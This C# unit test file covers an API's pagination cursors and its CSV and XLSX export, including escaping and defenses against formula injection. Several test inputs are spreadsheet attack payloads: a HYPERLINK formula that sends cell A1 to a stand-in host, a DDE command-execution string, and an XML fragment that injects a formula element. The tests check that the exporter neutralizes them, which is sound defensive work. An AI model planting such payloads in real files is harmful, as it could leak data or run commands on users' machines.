using System.Text;
using CompromisosApi.Common;

namespace CompromisosApi.UnitTests;

public sealed class BusquedaYExportacionTests
{
    [Theory]
    [InlineData(0f, 1L)]
    [InlineData(0.6079271f, 42L)]
    [InlineData(1e-20f, 123456789012L)]
    [InlineData(0.1f, 7L)]
    public void El_cursor_ranqueado_devuelve_exactamente_el_rango_y_el_id(float rango, long id)
    {
        var clave = Paginacion.DecodificarRanqueada(Paginacion.Codificar(new ClaveRanqueada(rango, id)));
        Assert.NotNull(clave);
        Assert.Equal(BitConverter.SingleToInt32Bits(rango), BitConverter.SingleToInt32Bits(clave.Value.Rango));
        Assert.Equal(id, clave.Value.Id);
    }

    [Fact]
    public void Un_cursor_de_una_clase_no_sirve_como_de_la_otra()
    {
        Assert.Null(Paginacion.DecodificarRanqueada(Paginacion.Codificar(5)));
        Assert.Null(Paginacion.Decodificar(Paginacion.Codificar(new ClaveRanqueada(0.5f, 5))));
        // The id cursor keeps its format: cursors handed out before searches existed still work.
        Assert.Equal("djE6NQ", Paginacion.Codificar(5));
    }

    [Theory]
    [InlineData("r1:NaN:1")]
    [InlineData("r1:Infinity:1")]
    [InlineData("r1:0.5")]
    [InlineData("r1:0.5:x")]
    [InlineData("r1:0,5:1")]
    [InlineData("r2:0.5:1")]
    public void Un_cursor_ranqueado_mal_formado_no_se_acepta(string contenido) =>
        Assert.Null(Paginacion.DecodificarRanqueada(System.Buffers.Text.Base64Url.EncodeToString(Encoding.ASCII.GetBytes(contenido))));

    [Theory]
    [InlineData("simple", "simple")]
    [InlineData("", "")]
    [InlineData("con, coma", "\"con, coma\"")]
    [InlineData("con \"comillas\"", "\"con \"\"comillas\"\"\"")]
    [InlineData("línea\r\notra", "\"línea\r\notra\"")]
    [InlineData("solo\nLF", "\"solo\nLF\"")]
    [InlineData("tildes: acción ñandú", "tildes: acción ñandú")]
    public void Un_campo_CSV_va_entre_comillas_solo_si_debe(string valor, string esperado) => Assert.Equal(esperado, Csv.Campo(valor));

    [Theory]
    [InlineData("con;punto y coma", "\"con;punto y coma\"")]
    [InlineData("con\ttab", "\"con\ttab\"")]
    public void Un_separador_de_otra_configuracion_regional_no_abre_otra_celda(string valor, string esperado) => Assert.Equal(esperado, Csv.Campo(valor));

    [Theory]
    [InlineData("=HYPERLINK(\"http://x.example/?\"&A1,\"Ver\")", "'=HYPERLINK(\"http://x.example/?\"&A1,\"Ver\")")]
    [InlineData("+56 9 1234 5678", "'+56 9 1234 5678")]
    [InlineData("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0")]
    [InlineData("@SUM(1+1)", "'@SUM(1+1)")]
    [InlineData("\t=1+1", "'\t=1+1")]
    [InlineData("\r=1+1", "'\r=1+1")]
    [InlineData("  =1+1", "'  =1+1")]
    [InlineData("\n\u00A0-1", "'\n\u00A0-1")]
    [InlineData("'=ya neutralizado", "'=ya neutralizado")]
    [InlineData("\"=1+1\"", "\"=1+1\"")]
    [InlineData("Elaborar = marco + lógico - @dipres", "Elaborar = marco + lógico - @dipres")]
    [InlineData("", "")]
    [InlineData("   ", "   ")]
    public void Un_texto_que_seria_formula_empieza_con_comilla_simple(string texto, string esperado) =>
        Assert.Equal(esperado, Csv.Neutralizar(texto));

    [Fact]
    public async Task El_CSV_neutraliza_textos_pero_no_numeros_fechas_ni_booleanos()
    {
        var columnas = new Columna<object?>[] { new("v", v => v) };
        object?[] valores = ["=1+1", "-5", 42, -7L, 3.5m, new DateOnly(2009, 12, 31), true, null, ";=1+1"];
        using var destino = new MemoryStream();
        await Csv.EscribirAsync(destino, columnas, valores.ToAsyncEnumerable(), CancellationToken.None);

        var lineas = Encoding.UTF8.GetString(destino.ToArray()).TrimStart('\uFEFF').Split("\r\n");
        Assert.Equal(["v", "'=1+1", "'-5", "42", "-7", "3.5", "2009-12-31", "true", "", "\";=1+1\"", ""], lineas);
    }

    /// <summary>
    /// Texts that a spreadsheet would take as formulas, numbers, booleans or errors: in the XLSX each stays an inline
    /// string (never evaluated, never typed), the workbook has no formula element, and only the service's own integers
    /// and booleans are typed cells.
    /// </summary>
    [Fact]
    public async Task El_XLSX_no_lleva_formulas_ni_numeros_forjados_desde_texto()
    {
        string[] textos = ["=HYPERLINK(\"http://x.example/?\"&A1,\"Ver\")", "+1", "-1", "@SUM(A1)", "1e308", "TRUE", "#N/A", "</t></is><f>1+1</f><is><t>"];
        var columnas = new Columna<string>[] { new("texto", t => t), new("largo", t => t.Length), new("vacio", t => t.Length == 0) };
        using var destino = new MemoryStream();
        await Xlsx.EscribirAsync(destino, "hoja", columnas, textos.ToAsyncEnumerable(), CancellationToken.None);

        using var zip = new System.IO.Compression.ZipArchive(new MemoryStream(destino.ToArray()));
        System.Xml.Linq.XNamespace ns = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
        foreach (var entrada in zip.Entries)
        {
            using var flujo = entrada.Open();
            Assert.Empty(System.Xml.Linq.XDocument.Load(flujo).Descendants(ns + "f"));
        }

        using var hoja = zip.GetEntry("xl/worksheets/sheet1.xml")!.Open();
        var filas = System.Xml.Linq.XDocument.Load(hoja).Descendants(ns + "row").Skip(1).ToList();
        Assert.Equal(textos.Length, filas.Count);
        for (var i = 0; i < textos.Length; i++)
        {
            var celdas = filas[i].Elements(ns + "c").ToList();
            Assert.Equal("inlineStr", (string?)celdas[0].Attribute("t"));
            Assert.Equal(textos[i], celdas[0].Value);
            Assert.Null(celdas[0].Element(ns + "v"));
            Assert.Null((string?)celdas[1].Attribute("t"));
            Assert.Equal(textos[i].Length.ToString(System.Globalization.CultureInfo.InvariantCulture), celdas[1].Element(ns + "v")!.Value);
            Assert.Equal("b", (string?)celdas[2].Attribute("t"));
        }
    }

    [Theory]
    [InlineData("a < b & c > d", "a &lt; b &amp; c &gt; d")]
    [InlineData("línea\r\notra", "línea&#13;\notra")]
    [InlineData("tab\tok", "tab\tok")]
    [InlineData("control \u0001 y \u001F", "control _x0001_ y _x001F_")]
    [InlineData("literal _x0041_ y _x00zz_", "literal _x005F_x0041_ y _x00zz_")]
    [InlineData("sin nada", "sin nada")]
    public void El_texto_de_una_celda_se_lee_tal_cual(string texto, string esperado) => Assert.Equal(esperado, Xlsx.Escapar(texto));

    [Theory]
    [InlineData(0, "A")]
    [InlineData(12, "M")]
    [InlineData(25, "Z")]
    [InlineData(26, "AA")]
    [InlineData(701, "ZZ")]
    [InlineData(702, "AAA")]
    public void Columnas_de_planilla(int indice, string nombre) => Assert.Equal(nombre, Xlsx.Columna(indice));

    [Fact]
    public async Task La_salida_por_tramos_solo_escribe_asincronamente_y_por_tramos()
    {
        var destino = new SoloAsincrono();
        var salida = new SalidaPorTramos(destino, tramo: 10);
        salida.Write(new byte[4]);
        salida.Flush();
        Assert.Equal(0, destino.Recibidos);
        await salida.WriteAsync(new byte[8]);
        Assert.Equal(12, destino.Recibidos);
        await salida.WriteAsync(new byte[3]);
        Assert.Equal(12, destino.Recibidos);
        await salida.FlushAsync();
        Assert.Equal(15, destino.Recibidos);
    }

    /// <summary>A destination like Kestrel's response body: synchronous IO throws.</summary>
    private sealed class SoloAsincrono : Stream
    {
        private readonly MemoryStream _recibido = new();

        public long Recibidos => _recibido.Length;

        public override bool CanRead => false;
        public override bool CanSeek => false;
        public override bool CanWrite => true;
        public override long Length => throw new NotSupportedException();

        public override long Position
        {
            get => throw new NotSupportedException();
            set => throw new NotSupportedException();
        }

        public override void Write(byte[] buffer, int offset, int count) => throw new InvalidOperationException("síncrono");

        public override void Flush() => throw new InvalidOperationException("síncrono");

        public override ValueTask WriteAsync(ReadOnlyMemory<byte> buffer, CancellationToken cancellationToken = default)
        {
            _recibido.Write(buffer.Span);
            return ValueTask.CompletedTask;
        }

        public override Task FlushAsync(CancellationToken cancellationToken) => Task.CompletedTask;

        public override int Read(byte[] buffer, int offset, int count) => throw new NotSupportedException();

        public override long Seek(long offset, SeekOrigin origin) => throw new NotSupportedException();

        public override void SetLength(long value) => throw new NotSupportedException();
    }
}
